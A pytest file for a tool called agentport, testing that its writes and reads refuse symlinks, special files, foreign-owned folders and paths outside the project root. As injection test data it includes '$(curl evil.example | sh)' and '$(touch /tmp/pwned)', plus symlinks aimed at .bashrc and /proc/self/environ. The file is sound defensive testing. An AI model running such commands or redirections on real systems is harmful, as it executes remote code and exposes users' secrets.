"""A cloned repository cannot point agentport's writes elsewhere, and reads stay where they
belong: state files and locks refuse symlinks, state folders must be real and the user's,
backups keep the graph's mode, corpus symlinks/special files are skipped, review reads only
inside the project root."""

from __future__ import annotations

import json
import os
import stat
from pathlib import Path

import pytest

from _deeprefine_util import write_tiny
from agentport.transport._fs import append_text, atomic_write, ensure_real_dir, open_lock_file
from agentport.workflows.deep_research import load_corpus
from agentport.workflows.deeprefine import Layout, add_query, apply_refinement, sync_memory
from agentport.workflows.deeprefine._code import locate
from agentport.workflows.deeprefine._files import graph_lock

GOOD = '<refinement>insert_edge("app/cli.py::main()", "uses", "cli.py")</refinement>'
CTX = {"interaction_history": [{"retrieved_subgraph": [
    {"subject": "x", "relation": "r", "object": "y", "subject_id": "app_cli_main",
     "object_id": "app_cli"}]}]}  # fmt: skip
RC_TEXT = "# my shell start-up file\nexport PATH=$HOME/bin:$PATH\n"


@pytest.fixture
def graph(tmp_path: Path) -> Path:
    return write_tiny(tmp_path / "proj")


@pytest.fixture
def bashrc(tmp_path: Path) -> Path:
    rc = tmp_path / "home" / ".bashrc"
    rc.parent.mkdir()
    rc.write_text(RC_TEXT, encoding="utf-8")
    return rc


def _layout(graph: Path) -> Layout:
    return Layout(graph.parent.parent)


def test_sync_memory_never_appends_through_a_symlinked_history(graph: Path, bashrc: Path) -> None:
    layout = _layout(graph)
    layout.memory.mkdir()
    (layout.memory / "query_x.md").write_text(
        '---\nquestion: "$(curl evil.example | sh)"\n---\n', encoding="utf-8"
    )
    layout.state.mkdir(exist_ok=True)
    layout.history.symlink_to(bashrc)
    with pytest.raises(OSError, match="symbolic link") as caught:
        sync_memory(layout)
    assert caught.value.filename == str(layout.history)
    assert bashrc.read_text(encoding="utf-8") == RC_TEXT
    with pytest.raises(OSError, match="symbolic link"):
        add_query(layout, "another question")
    assert bashrc.read_text(encoding="utf-8") == RC_TEXT


def test_deeprefine_history_sync_memory_cli_refuses_in_one_line(
    graph: Path, bashrc: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from agentport.cli._deeprefine import main

    layout = _layout(graph)
    layout.memory.mkdir()
    (layout.memory / "query_x.md").write_text("# Q: $(touch /tmp/pwned)\n", encoding="utf-8")
    layout.state.mkdir(exist_ok=True)
    layout.history.symlink_to(bashrc)
    assert main(["history", "sync-memory", "--project-root", str(layout.root)]) == 1
    err = capsys.readouterr().err.strip().splitlines()
    assert err == [f"deeprefine: {layout.history}: is a symbolic link; refusing to follow it"]
    assert bashrc.read_text(encoding="utf-8") == RC_TEXT


@pytest.mark.parametrize("name", ["graph.lock", "apply_log.jsonl"])
def test_apply_never_writes_through_a_symlinked_state_file(
    graph: Path, bashrc: Path, name: str
) -> None:
    layout = _layout(graph)
    layout.state.mkdir(exist_ok=True)
    (layout.state / name).symlink_to(bashrc)
    with pytest.raises(OSError, match="symbolic link"):
        apply_refinement(layout, GOOD, trace=CTX)
    assert bashrc.read_text(encoding="utf-8") == RC_TEXT


@pytest.mark.parametrize("which", ["state", "out"])
def test_state_folders_must_be_real_folders(graph: Path, tmp_path: Path, which: str) -> None:
    layout = _layout(graph)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    if which == "state":
        layout.state.symlink_to(elsewhere, target_is_directory=True)
    else:
        real = layout.root / "real-out"
        layout.out_dir.rename(real)
        layout.out_dir.symlink_to(real, target_is_directory=True)
    with pytest.raises(OSError, match="symbolic link"), graph_lock(layout.state):
        pass
    assert list(elsewhere.iterdir()) == []


def test_a_folder_of_another_user_is_refused(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setattr(os, "geteuid", lambda: os.stat(tmp_path).st_uid + 1)
    with pytest.raises(OSError, match="another user"):
        ensure_real_dir(tmp_path)


def test_new_state_folder_is_private(graph: Path) -> None:
    layout = _layout(graph)
    with graph_lock(layout.state):
        pass
    assert stat.S_IMODE(layout.state.stat().st_mode) == 0o700


@pytest.mark.parametrize("mode", [0o600, 0o640, 0o644])
def test_backup_and_new_graph_keep_the_graphs_mode(graph: Path, mode: int) -> None:
    os.chmod(graph, mode)
    layout = _layout(graph)
    report = apply_refinement(layout, GOOD, trace=CTX)
    assert report.written
    assert stat.S_IMODE(layout.backup.stat().st_mode) == mode
    assert stat.S_IMODE(graph.stat().st_mode) == mode
    assert stat.S_IMODE((layout.state / "apply_log.jsonl").stat().st_mode) & ~mode == 0


def test_history_of_a_private_graph_is_private(graph: Path) -> None:
    os.chmod(graph, 0o600)
    layout = _layout(graph)
    add_query(layout, "what calls main?")
    assert stat.S_IMODE(layout.history.stat().st_mode) & 0o077 == 0


def test_append_and_lock_refuse_special_files(tmp_path: Path) -> None:
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    with pytest.raises(OSError, match="not a regular file"):
        append_text(fifo, "x\n")
    with pytest.raises(OSError, match="not a regular file"):
        open_lock_file(fifo)


def test_atomic_write_replaces_a_symlink_instead_of_following_it(
    tmp_path: Path, bashrc: Path
) -> None:
    link = tmp_path / "result.json"
    link.symlink_to(bashrc)
    atomic_write(link, "{}")
    assert bashrc.read_text(encoding="utf-8") == RC_TEXT
    assert not link.is_symlink()
    assert json.loads(link.read_text(encoding="utf-8")) == {}


def test_corpus_skips_symlinks_out_of_it_and_special_files(tmp_path: Path) -> None:
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "real.md").write_text("# Real\n\nThe retry policy backs off.", encoding="utf-8")
    (tmp_path / "secret.md").write_text("# Secret\n\nssh private key material", "utf-8")
    (corpus / "environ.txt").symlink_to("/proc/self/environ")
    (corpus / "outside.md").symlink_to(tmp_path / "secret.md")
    (corpus / "inside.md").symlink_to(corpus / "real.md")
    os.mkfifo(corpus / "pipe.md")
    loaded = load_corpus(corpus).unwrap()
    paths = {p.path for p in loaded.passages}
    assert paths == {"real.md", "inside.md"}
    assert all("ssh private" not in p.text for p in loaded.passages)
    skipped = "\n".join(loaded.skipped)
    assert "environ.txt: symlink out of the corpus" in skipped
    assert "outside.md: symlink out of the corpus" in skipped
    assert "pipe.md: not a regular file" in skipped


def test_review_reads_source_only_inside_the_project_root(tmp_path: Path) -> None:
    root = tmp_path / "parent" / "proj"
    (root / "app").mkdir(parents=True)
    (root / "app" / "ok.py").write_text("def main():\n    pass\n", encoding="utf-8")
    (tmp_path / "parent" / "sibling.py").write_text("SECRET = 1\n", encoding="utf-8")
    (root / "app" / "link.py").symlink_to(tmp_path / "parent" / "sibling.py")
    ok = (root / "app" / "ok.py").resolve()
    assert locate(root, "app/ok.py") == ok
    assert locate(root, "proj/app/ok.py") == ok  # graphify ran in the parent folder
    assert locate(root, "sibling.py") is None
    assert locate(root, "../sibling.py") is None
    assert locate(root, "app/link.py") is None
    assert locate(root, "/etc/passwd") is None
